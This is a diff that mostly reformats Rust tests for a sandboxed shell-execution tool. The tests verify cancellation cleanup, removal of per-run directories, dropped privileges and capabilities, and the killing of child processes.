+    let out = cheng_node::Node::run(
+        &CodeShell,
+        &ctx,
+        with_defaults(&CodeShell, writable("sleep 30", 20000)),
+    )
+    .await
+    .unwrap();
     assert_eq!(out["error_kind"], "LOCAL_EXECUTOR_CANCELLED", "{out:?}");
     assert_eq!(entries(&ws), before, "after cancellation");
 
     // A run whose future is dropped mid-run (the engine abandoning it).
-    let ctx = cheng_node::RunContext::for_workspace("tools/code_shell", ws.clone(), Decision::Approved);
+    let ctx =
+        cheng_node::RunContext::for_workspace("tools/code_shell", ws.clone(), Decision::Approved);
     let input = with_defaults(&CodeShell, writable("sleep 30", 20000));
-    let abandoned = tokio::time::timeout(Duration::from_millis(300), cheng_node::Node::run(&CodeShell, &ctx, input)).await;
+    let abandoned = tokio::time::timeout(
+        Duration::from_millis(300),
+        cheng_node::Node::run(&CodeShell, &ctx, input),
+    )
+    .await;
     assert!(abandoned.is_err(), "the run should still have been going");
     assert_eq!(entries(&ws), before, "after the run was dropped");
 
@@ -453,37 +783,82 @@ async fn masking_placeholders_are_removed_however_the_run_ends() {
 
 #[tokio::test]
 async fn no_per_run_directory_outlives_its_run() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     let parent = cheng_exec::sandbox::io_parent();
     // The run's own I/O directory, found from inside through $INPUT_FILE's mount source (an
     // input past the copy limit, so that the directory is bound, not copied into the view).
     let input = "x".repeat(cheng_exec::sandbox::mounts::COPY_MAX_BYTES as usize + 1);
-    let out = run(&CodeShell, &ws, json!({"script": "grep ' /run/cheng-io ' /proc/self/mountinfo | head -n1", "input": input})).await;
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": "grep ' /run/cheng-io ' /proc/self/mountinfo | head -n1", "input": input}),
+    )
+    .await;
     assert_eq!(out["success"], true, "{out:?}");
     let mountinfo = out["result"].as_str().unwrap_or("").to_string();
     // Field 4 is the root of the mount inside its file system: .../cheng-sandbox-XXXX/io.
     let root = mountinfo.split(' ').nth(3).unwrap_or("");
-    let run_dir = root.trim_end_matches("/io").rsplit('/').next().unwrap_or("").to_string();
-    assert!(run_dir.starts_with("cheng-sandbox-"), "unexpected mountinfo: {mountinfo}");
-    assert!(!parent.join(&run_dir).exists(), "{} was left behind", parent.join(&run_dir).display());
+    let run_dir = root
+        .trim_end_matches("/io")
+        .rsplit('/')
+        .next()
+        .unwrap_or("")
+        .to_string();
+    assert!(
+        run_dir.starts_with("cheng-sandbox-"),
+        "unexpected mountinfo: {mountinfo}"
+    );
+    assert!(
+        !parent.join(&run_dir).exists(),
+        "{} was left behind",
+        parent.join(&run_dir).display()
+    );
 }
 
 #[tokio::test]
 async fn the_script_runs_with_no_new_privs_and_no_capabilities() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
-    let out = run(&CodeShell, &ws, json!({"script": "grep -E '^(NoNewPrivs|CapEff|CapPrm|CapBnd):' /proc/self/status"})).await;
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": "grep -E '^(NoNewPrivs|CapEff|CapPrm|CapBnd):' /proc/self/status"}),
+    )
+    .await;
     assert_eq!(out["success"], true, "{out:?}");
     let status = out["stdout"].as_str().unwrap();
-    assert!(status.lines().any(|l| l.split_whitespace().collect::<Vec<_>>() == ["NoNewPrivs:", "1"]), "{status}");
+    assert!(
+        status
+            .lines()
+            .any(|l| l.split_whitespace().collect::<Vec<_>>() == ["NoNewPrivs:", "1"]),
+        "{status}"
+    );
     for cap in ["CapEff:", "CapPrm:", "CapBnd:"] {
-        let line = status.lines().find(|l| l.starts_with(cap)).unwrap_or_else(|| panic!("{cap} missing: {status}"));
-        assert!(line.ends_with("0000000000000000"), "a capability survived: {line}");
+        let line = status
+            .lines()
+            .find(|l| l.starts_with(cap))
+            .unwrap_or_else(|| panic!("{cap} missing: {status}"));
+        assert!(
+            line.ends_with("0000000000000000"),
+            "a capability survived: {line}"
+        );
     }
     // The attempt a capability would allow: a mount.
-    let out = run(&CodeShell, &ws, json!({"script": "mount -t tmpfs none /tmp && echo mounted"})).await;
-    assert!(!out["stdout"].as_str().unwrap().contains("mounted"), "{out:?}");
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": "mount -t tmpfs none /tmp && echo mounted"}),
+    )
+    .await;
+    assert!(
+        !out["stdout"].as_str().unwrap().contains("mounted"),
+        "{out:?}"
+    );
 }
 
 /// Cancelling a run mid-way (the engine's CancellationToken) kills the script's children and
@@ -491,12 +866,15 @@ async fn the_script_runs_with_no_new_privs_and_no_capabilities() {
 /// before and after.
 #[tokio::test]
 async fn cancelling_mid_run_kills_grandchildren() {
-    if !sandbox_available() || !require_or_skip("pgrep") { return; }
+    if !sandbox_available() || !require_or_skip("pgrep") {
+        return;
+    }
     let (_d, ws) = workspace();
     // Durations unique to this test process, so that pgrep -f finds only these sleeps.
     let tag = format!("97.6{}", std::process::id());
     let script = format!("sh -c 'sleep {tag}1' & (setsid sleep {tag}2 &); sleep {tag}3");
-    let ctx = cheng_node::RunContext::for_workspace("tools/code_shell", ws.clone(), Decision::Approved);
+    let ctx =
+        cheng_node::RunContext::for_workspace("tools/code_shell", ws.clone(), Decision::Approved);
     let cancel = ctx.cancel.clone();
     let input = with_defaults(&CodeShell, json!({"script": script, "timeout_ms": 60000}));
     let pattern = format!("sleep {tag}");
@@ -507,14 +885,25 @@ async fn cancelling_mid_run_kills_grandchildren() {
         tokio::task::spawn_blocking(move || {
             // The three sleeps themselves running (not merely a shell naming them): then cancel.
             let sleeps = format!("^{pattern}[123]$");
-            let started = eventually(Duration::from_secs(20), || pgrep(&["-f", &sleeps]).len() == 3);
+            let started = eventually(Duration::from_secs(20), || {
+                pgrep(&["-f", &sleeps]).len() == 3
+            });
             cancel.cancel();
             started
         })
     };
-    let out = cheng_node::Node::run(&CodeShell, &ctx, input).await.unwrap();
-    assert!(watcher.await.unwrap(), "the script's processes never all started: {out:?}");
+    let out = cheng_node::Node::run(&CodeShell, &ctx, input)
+        .await
+        .unwrap();
+    assert!(
+        watcher.await.unwrap(),
+        "the script's processes never all started: {out:?}"
+    );
     assert_eq!(out["error_kind"], "LOCAL_EXECUTOR_CANCELLED", "{out:?}");
     assert_eq!(out["metrics"]["termination"], "cancelled", "{out:?}");
-    assert!(none_left(&["-f", &pattern]), "left behind after cancellation: {:?}", pgrep(&["-f", &pattern]));
+    assert!(
+        none_left(&["-f", &pattern]),
+        "left behind after cancellation: {:?}",
+        pgrep(&["-f", &pattern])
+    );
 }
